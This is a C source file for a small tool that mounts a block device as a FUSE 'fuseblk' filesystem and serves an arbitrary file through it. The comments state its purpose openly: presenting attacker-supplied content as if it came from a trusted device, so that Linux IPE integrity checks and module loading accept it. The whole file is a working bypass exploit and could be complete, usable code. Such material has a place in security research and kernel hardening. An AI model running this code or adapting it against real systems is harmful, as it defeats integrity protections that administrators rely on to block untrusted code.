/*
 * fuseblk.c - mount a block device as one of FUSE's, and serve a file of the attacker's from it
 *
 * Usage: fuseblk DEVICE FILE TARGET
 *
 * Mounts DEVICE on the file TARGET, which then has the content of FILE, and returns; a child serves
 * the requests until TARGET is unmounted. Nothing is ever read from DEVICE: the kernel opens it
 * exclusively and makes it the superblock's, which is all that IPE asks about. Status 1 if the
 * kernel does not mount it (a device that is in use is busy).
 *
 * The protocol: include/uapi/linux/fuse.h. The root of the file system is the file itself, so the
 * kernel looks up no name. SPDX-License-Identifier: MIT
 */

#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

/* A read's buffer must hold the largest request; no request here carries data to be written. */
static char request[FUSE_MIN_READ_BUFFER];
static char data[128 << 10];

/* Answer the request with size bytes, or with error (a negative errno) and none. */
static void reply(int fuse, int error, const void *bytes, size_t size)
{
	const struct fuse_in_header *in = (const void *)request;
	struct fuse_out_header out = {.error = error, .unique = in->unique};
	struct iovec parts[2] = {{&out, sizeof(out)}, {(void *)bytes, size}};

	out.len = (uint32_t)(sizeof(out) + size);
	if (writev(fuse, parts, size ? 2 : 1) < 0)
		perror("fuseblk: answering a request");
}

static void reply_init(int fuse)
{
	struct fuse_init_out out = {
		.major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION};

	out.max_readahead = sizeof(data);
	out.max_write = 4096;
	reply(fuse, 0, &out, sizeof(out));
}

static void reply_attributes(int fuse, int file)
{
	struct fuse_attr_out out = {.attr_valid = 60};
	struct stat status;

	if (fstat(file, &status)) {
		reply(fuse, -errno, NULL, 0);
		return;
	}
	out.attr.ino = FUSE_ROOT_ID;
	out.attr.size = (uint64_t)status.st_size;
	out.attr.mode = S_IFREG | 0755;
	out.attr.nlink = 1;
	reply(fuse, 0, &out, sizeof(out));
}

static void reply_read(int fuse, int file)
{
	const struct fuse_read_in *in = (const void *)(request + sizeof(struct fuse_in_header));
	ssize_t got;

	if (in->size > sizeof(data)) {
		reply(fuse, -EIO, NULL, 0);
		return;
	}
	got = pread(file, data, in->size, (off_t)in->offset);
	if (got < 0)
		reply(fuse, -errno, NULL, 0);
	else
		reply(fuse, 0, data, (size_t)got);
}

static void serve(int fuse, int file)
{
	const struct fuse_in_header *in = (const void *)request;
	struct fuse_open_out opened = {0};

	/* ENODEV after the unmount */
	while (read(fuse, request, sizeof(request)) > 0) {
		switch (in->opcode) {
		case FUSE_INIT:
			reply_init(fuse);
			break;
		case FUSE_GETATTR:
			reply_attributes(fuse, file);
			break;
		case FUSE_OPEN:
			reply(fuse, 0, &opened, sizeof(opened));
			break;
		case FUSE_READ:
			reply_read(fuse, file);
			break;
		case FUSE_FLUSH:
		case FUSE_RELEASE:
			reply(fuse, 0, NULL, 0);
			break;
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
		case FUSE_INTERRUPT:
			break; /* these want no answer */
		default:
			reply(fuse, -ENOSYS, NULL, 0);
			break;
		}
	}
}

int main(int argc, char **argv)
{
	char options[128];
	struct stat status;
	int fuse, file;
	pid_t server;

	if (argc != 4)
		return 2;
	fuse = open("/dev/fuse", O_RDWR);
	if (fuse < 0) {
		perror("fuseblk: /dev/fuse");
		return 1;
	}
	file = open(argv[2], O_RDONLY);
	if (file < 0) {
		perror(argv[2]);
		return 1;
	}
	snprintf(options, sizeof(options),
		"fd=%d,rootmode=100755,user_id=0,group_id=0,blksize=4096", fuse);
	if (mount(argv[1], argv[3], "fuseblk", MS_RDONLY, options)) {
		perror(argv[1]);
		return 1;
	}
	server = fork();
	if (server < 0) {
		perror("fuseblk: fork");
		umount(argv[3]);
		return 1;
	}
	if (server == 0) {
		serve(fuse, file);
		return 0;
	}
	/* The kernel learns the size when somebody asks; who loads a module does not. */
	if (stat(argv[3], &status)) {
		perror(argv[3]);
		return 1;
	}
	return 0;
}
